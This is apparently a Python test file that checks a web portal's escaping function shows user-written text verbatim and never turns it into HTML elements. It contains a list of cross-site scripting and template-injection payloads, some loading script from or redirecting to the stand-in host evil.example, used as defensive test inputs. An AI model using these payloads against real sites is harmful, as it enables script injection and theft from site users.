"""What somebody wrote is shown as they wrote it, and can do nothing."""

from __future__ import annotations

import time
from xml.etree.ElementTree import Element

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.domain.intake import verbatim
from portal.web.own_words import own_words
from tests.any_intake import TYPED
from tests.web.as_shown import parsed, text_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf_token>",
    "</textarea></p></main><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
]
# Children's own, which looks like marks and is none.
LIKE_MARKS = [
    "<3 <3 i <3 my nan </3",
    "a < b > c & d",
    "he said <nothing> to me",
    "AT&T &amp; &nbsp; &copy; &unknown; &",
    "<!-- not a comment --> <! <? </ >",
    'it\'s "fine"',
    "end <",
    "<a",
    "www.example.com http://example.com?a=1&copy=2",
]


def page_with(text: str) -> Element:
    return parsed(f"<p>{own_words(text)}</p>")


def shown(text: str) -> str:
    return text_of(page_with(text))


def as_browsers_show_it(text: str) -> str:
    return verbatim(text).replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", [*ATTACKS, *LIKE_MARKS, *TYPED])
def test_it_is_shown_as_it_was_written(text: str) -> None:
    assert shown(text) == as_browsers_show_it(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_makes_no_element(text: str) -> None:
    assert {element.tag for element in page_with(text).iter()} == {"body", "p"}
    assert "<" not in own_words(text)


# Pieces of marks, so that what is put together of them comes close to being one.
pieces = st.sampled_from(
    ["<", ">", "</", "<!--", "-->", "&", "&lt", ";", "&#", "x3c", "a ", "br", '"']
)
almost_marks = st.lists(pieces | st.text(max_size=3)).map("".join)


@given(st.text() | almost_marks)
def test_any_text_is_shown_as_it_was_written(text: str) -> None:
    assert shown(text) == as_browsers_show_it(text)


@given(st.text() | almost_marks)
def test_no_text_makes_an_element_but_line_breaks(text: str) -> None:
    tags = {element.tag for element in page_with(text).iter()}

    assert tags <= {"body", "p", "br"}
    assert own_words(text).replace("<br>", "").count("<") == 0


@given(st.lists(st.sampled_from(["\r\n", "\n", "\r", "word", " "])).map("".join))
def test_every_line_break_is_kept(text: str) -> None:
    assert own_words(text).count("<br>") == as_browsers_show_it(text).count("\n")


def test_nothing_is_shown_of_nothing() -> None:
    assert own_words("") == ""


@pytest.mark.parametrize("text", ATTACKS + LIKE_MARKS)
def test_a_very_long_text_is_shown_as_safely(text: str) -> None:
    long = text * 2_000

    assert own_words(long) == own_words(text) * 2_000


@pytest.mark.parametrize("mark", ["<", "&", "\n", "&lt;", "<!--"])
def test_two_megabytes_of_marks_are_shown_in_a_moment(mark: str) -> None:
    began = time.process_time()

    own_words(mark * (2_000_000 // len(mark)))

    assert time.process_time() - began < 3
